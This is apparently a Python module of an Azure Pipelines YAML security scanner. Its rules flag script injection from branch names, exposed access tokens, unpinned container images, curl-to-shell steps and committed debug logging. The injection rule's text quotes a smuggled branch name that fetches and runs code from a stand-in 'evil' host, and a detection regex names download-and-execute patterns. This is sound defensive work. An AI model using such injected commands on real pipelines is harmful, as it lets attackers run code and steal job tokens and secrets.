"""Our Azure Pipelines YAML rules (scanning.md §3), each a Rule with its check function beside it.

A check takes a parsed `Pipeline` (the ruamel.yaml round-trip document, which keeps line numbers) and yields
findings with the line of the offending step, key or script line. `CHECKS` lists them; `pipelines.py` finds and
parses the files and runs every check. ADO-PIPE-10 to 14 are here; poisoned pipeline execution (ADO-PIPE-16) is
in `pipeline_ppe.py`, the task.setvariable rules (ADO-PIPE-17, 18) in `pipeline_setvariable.py`, the document
model they share in `pipeline_yaml.py`. (ADO-PIPE-01 to 09 and 15 are posture controls, core/posture.)

Identity (what makes a finding itself across scans and line shifts, scanning.md §4): the rule's subject (the
variable, the image, the setvariable name) plus the stripped source line it was found on, so two steps with the
same problem are two findings and an unrelated edit above them changes nothing.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

from ruamel.yaml.comments import CommentedMap

from core.scanners.pipeline_ppe import PPE, PPE_NO_SECRETS, check_ppe
from core.scanners.pipeline_setvariable import COMMITTED_SECRET, UNMARKED_SECRET, check_setvariable
from core.scanners.pipeline_yaml import (
    Pipeline,
    key_line,
    locate,
    mappings,
    scripts,
    source_line,
    step_label,
    variable_definitions,
)
from core.scans.scanner import RawFinding, Rule

DOCS = "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs"


# --- ADO-PIPE-10: untrusted input interpolated into a script ------------------------------------------------

INJECTION = Rule(
    "ADO-PIPE-10",
    "Untrusted branch or commit data interpolated into a script",
    "HIGH",
    "PIPELINE",
    "Branch names and commit messages are chosen by whoever pushes or opens the pull request. Macro and template "
    "syntax paste them into the script text before it runs, so a branch named like `a;curl evil|sh` runs "
    "commands on the agent, with the job's token and secrets.",
    "Pass the value through an environment variable (env: BRANCH: $(Build.SourceBranch)) and use it quoted "
    '("$BRANCH"), never interpolated with $( ) or ${{ }}.',
    DOCS,
)
UNTRUSTED_NAMES = r"Build\.SourceBranchName|Build\.SourceBranch|Build\.SourceVersionMessage|System\.PullRequest\.SourceBranch"
# $(Build.SourceBranch), ${{ variables['Build.SourceBranch'] }}, ${{ variables.Build.SourceBranch }},
# $[ variables['Build.SourceBranch'] ] (runtime expressions: in variable definitions, which taints them).
UNTRUSTED = re.compile(
    rf"\$\(\s*(?P<a>{UNTRUSTED_NAMES})\s*\)"
    rf"|\$\{{\{{[^}}]*?variables(?:\[\s*['\"](?P<b>{UNTRUSTED_NAMES})['\"]\s*\]|\.(?P<c>{UNTRUSTED_NAMES}))(?![\w.])[^}}]*\}}\}}"
    rf"|\$\[[^\]]*?variables(?:\[\s*['\"](?P<d>{UNTRUSTED_NAMES})['\"]\s*\]|\.(?P<e>{UNTRUSTED_NAMES}))(?![\w.])",
    re.IGNORECASE,
)
CANONICAL = {
    n.lower(): n
    for n in (
        "Build.SourceBranch",
        "Build.SourceBranchName",
        "Build.SourceVersionMessage",
        "System.PullRequest.SourceBranch",
    )
}


def untrusted_name(match: re.Match[str]) -> str:
    name = next(g for g in match.groups() if g)
    return CANONICAL.get(name.lower(), name)


def tainted_variables(document: CommentedMap) -> dict[str, str]:
    """Variables defined from untrusted values (`branch: $[variables['Build.SourceBranch']]`), one level deep."""
    tainted = {}
    for name, value, _, _ in variable_definitions(document):
        if isinstance(value, str) and (match := UNTRUSTED.search(value)):
            tainted[name.lower()] = untrusted_name(match)
    return tainted


def check_injection(pipeline: Pipeline) -> Iterator[RawFinding]:
    for script in scripts(pipeline):
        for match in UNTRUSTED.finditer(script.text):
            source = untrusted_name(match)
            line = locate(pipeline, script, match.start())
            yield RawFinding(
                INJECTION,
                pipeline.path,
                line,
                message=f"{source} is pasted into a {script.kind} step.",
                identity=f"{source}|{source_line(pipeline, line)}",
            )
        if not pipeline.tainted:
            continue
        for match in VARIABLE_REFERENCE.finditer(script.text):
            name = next(g for g in match.groups() if g)
            source = pipeline.tainted.get(name.lower())
            if source is None or name.lower() in CANONICAL:
                continue
            line = locate(pipeline, script, match.start())
            yield RawFinding(
                INJECTION,
                pipeline.path,
                line,
                message=f"Variable {name}, set from {source}, is pasted into a {script.kind} step.",
                identity=f"{name}|{source_line(pipeline, line)}",
            )


VARIABLE_REFERENCE = re.compile(
    r"\$\(\s*(?P<a>[\w.]+)\s*\)|\$\{\{[^}]*?variables(?:\[\s*['\"](?P<b>[\w.]+)['\"]\s*\]|\.(?P<c>[\w.]+))[^}]*\}\}"
)


# --- ADO-PIPE-11: System.AccessToken exposed to a script ----------------------------------------------------

ACCESS_TOKEN = Rule(
    "ADO-PIPE-11",
    "System.AccessToken exposed to a script",
    "MEDIUM",
    "PIPELINE",
    "The job's OAuth token acts on the project (and beyond, unless the job authorization scope is limited); every "
    "tool the script runs, including downloaded dependencies, can read and send it.",
    "Map System.AccessToken only into the one step that needs it, prefer a task or service connection, and limit "
    "the job authorization scope to the current project.",
    "https://learn.microsoft.com/en-us/azure/devops/pipelines/build/variables#systemaccesstoken",
)
TOKEN = re.compile(
    r"\$\(\s*System\.AccessToken\s*\)|\$\{\{[^}]*variables(?:\[\s*['\"]System\.AccessToken['\"]\s*\]|\.System\.AccessToken)",
    re.IGNORECASE,
)


def check_access_token(pipeline: Pipeline) -> Iterator[RawFinding]:
    for node in mappings(pipeline.document):
        env = node.get("env")
        if isinstance(env, CommentedMap):
            for name, value in env.items():
                if isinstance(value, str) and TOKEN.search(value):
                    line = key_line(env, name)
                    yield RawFinding(
                        ACCESS_TOKEN,
                        pipeline.path,
                        line,
                        message=f"System.AccessToken is mapped into a step's environment as {name}.",
                        identity=f"env:{name}|{step_label(node)}",
                    )
    for script in scripts(pipeline):
        for match in TOKEN.finditer(script.text):
            line = locate(pipeline, script, match.start())
            yield RawFinding(
                ACCESS_TOKEN,
                pipeline.path,
                line,
                message=f"System.AccessToken is pasted into a {script.kind} step.",
                identity=f"script|{source_line(pipeline, line)}",
            )


# --- ADO-PIPE-12: container images not pinned ---------------------------------------------------------------

_IMAGE_RATIONALE = (
    "A tag is a movable pointer: `latest` (or no tag) changes with every push, and even a version tag can be "
    "re-pushed. The job then runs whatever the registry serves, with the pipeline's token and secrets."
)
_IMAGE_REMEDIATION = "Pin the image by digest (image:tag@sha256:…) and let a bot propose digest updates."
UNPINNED_IMAGE = Rule(
    "ADO-PIPE-12", "Container image not pinned", "MEDIUM", "PIPELINE", _IMAGE_RATIONALE, _IMAGE_REMEDIATION
)
# Same rule, lower severity: a fixed version tag is a deliberate choice, only re-pushes can change it.
TAGGED_IMAGE = Rule(
    "ADO-PIPE-12", "Container image not pinned", "LOW", "PIPELINE", _IMAGE_RATIONALE, _IMAGE_REMEDIATION
)


def image_problem(image: str) -> tuple[Rule, str] | None:
    if "@sha256:" in image or "$(" in image or "${{" in image or "$[" in image:
        return None  # pinned, or decided at run time (not ours to judge here)
    name = image.rsplit("/", 1)[-1]
    if ":" not in name:
        return UNPINNED_IMAGE, "has no tag (so latest) and no digest"
    if name.endswith(":latest"):
        return UNPINNED_IMAGE, "uses the latest tag"
    return TAGGED_IMAGE, "is tagged but not pinned by digest"


def image_references(pipeline: Pipeline) -> Iterator[tuple[CommentedMap, object, str]]:
    """(holder, key, image) for resources.containers[].image, job `container:` (name or mapping) and job
    `services:`; names of container resources are aliases, not images."""
    for node in mappings(pipeline.document):
        if isinstance(node.get("image"), str) and isinstance(node.get("container"), str):
            yield node, "image", node["image"]  # a resources.containers entry
            continue
        container = node.get("container")
        if isinstance(container, str) and container not in pipeline.container_aliases:
            yield node, "container", container
        elif isinstance(container, CommentedMap) and isinstance(container.get("image"), str):
            yield container, "image", container["image"]
        services = node.get("services")
        if isinstance(services, CommentedMap):
            for name, value in services.items():
                if isinstance(value, str) and value not in pipeline.container_aliases:
                    yield services, name, value


def check_images(pipeline: Pipeline) -> Iterator[RawFinding]:
    for holder, key, image in image_references(pipeline):
        problem = image_problem(image)
        if problem:
            rule, why = problem
            yield RawFinding(
                rule,
                pipeline.path,
                key_line(holder, key),
                message=f"Container image {image[:120]} {why}.",
                identity=f"image:{image[:200]}",
            )


# --- ADO-PIPE-13: remote script piped to a shell ---------------------------------------------------------------

REMOTE_SCRIPT = Rule(
    "ADO-PIPE-13",
    "Remote script piped to a shell",
    "MEDIUM",
    "PIPELINE",
    "`curl … | bash` runs whatever the server (or anyone between) returns at that moment, unverified, with the "
    "job's token and secrets. (A secret set with task.setvariable without issecret was also ADO-PIPE-13 before "
    "pipelines scanner version 3; it is ADO-PIPE-17 now.)",
    "Download to a file, verify a pinned checksum or signature, then run it; or install from a package manager "
    "with pinned versions.",
    "https://github.com/boostsecurityio/poutine/blob/main/opa/rego/rules/unverified_script_exec.rego",
)
_NOT_PIPE = r"(?<!\|)\|(?!\|)"
_SHELL = r"(?:sudo(?:\s+-\S+)*\s+)?(?:env\s+\S+=\S*\s+)*(?:/usr/bin/|/bin/)?(?:ba|z|k|da)?sh|python[0-9.]*|perl|ruby|node|pwsh|iex|Invoke-Expression"
PIPE_TO_SHELL = re.compile(
    rf"\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^\n;&]*?{_NOT_PIPE}\s*(?:{_SHELL})(?![\w-])"
    rf"|\b(?:ba|z|k|da)?sh\s+(?:-c\s+)?[\"']?(?:<\(|\$\()\s*(?:curl|wget)\b"
    rf"|\b(?:iex|Invoke-Expression)\b\s*\(?\s*(?:\(\s*)?(?:New-Object\s+[\w.]+\)\.DownloadString|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b",
    re.IGNORECASE,
)


def check_remote_script(pipeline: Pipeline) -> Iterator[RawFinding]:
    for script in scripts(pipeline):
        text = script.text.replace("\\\n", "  ")  # shell line continuations, same length
        for match in PIPE_TO_SHELL.finditer(text):
            line = locate(pipeline, script, match.start())
            yield RawFinding(
                REMOTE_SCRIPT,
                pipeline.path,
                line,
                message=f"A downloaded script is run straight by a shell in a {script.kind} step.",
                identity=f"pipe|{source_line(pipeline, line)[:200]}",
            )


# --- ADO-PIPE-14: system.debug committed ---------------------------------------------------------------------

DEBUG = Rule(
    "ADO-PIPE-14",
    "system.debug committed as true",
    "LOW",
    "PIPELINE",
    "Debug logging prints every task's inputs, variables and internals in the logs of every run, which more "
    "people can read than can read the secrets behind them.",
    "Remove system.debug from the YAML; set it at queue time for the one run that needs it.",
    "https://learn.microsoft.com/en-us/azure/devops/pipelines/troubleshooting/review-logs",
)


def check_debug(pipeline: Pipeline) -> Iterator[RawFinding]:
    for name, value, holder, key in variable_definitions(pipeline.document):
        if name.strip().lower() == "system.debug" and str(value).strip().lower() == "true":
            yield RawFinding(
                DEBUG,
                pipeline.path,
                key_line(holder, key),
                message="system.debug is set to true in the YAML.",
                identity="system.debug",
            )


# --- the catalogue -------------------------------------------------------------------------------------------

PARSE = Rule(
    "ADO-PIPE-PARSE",
    "Pipeline YAML does not parse",
    "LOW",
    "PIPELINE",
    "A pipeline file that does not parse is checked by no rule (and does not run as written).",
    "Fix the YAML syntax at the reported line.",
)

CHECKS: tuple[tuple[tuple[Rule, ...], Callable[[Pipeline], Iterator[RawFinding]]], ...] = (
    ((INJECTION,), check_injection),
    ((ACCESS_TOKEN,), check_access_token),
    ((UNPINNED_IMAGE, TAGGED_IMAGE), check_images),
    ((REMOTE_SCRIPT,), check_remote_script),
    ((DEBUG,), check_debug),
    ((PPE, PPE_NO_SECRETS), check_ppe),
    ((UNMARKED_SECRET, COMMITTED_SECRET), check_setvariable),
)
RULES: tuple[Rule, ...] = (*(rule for rules, _ in CHECKS for rule in rules), PARSE)
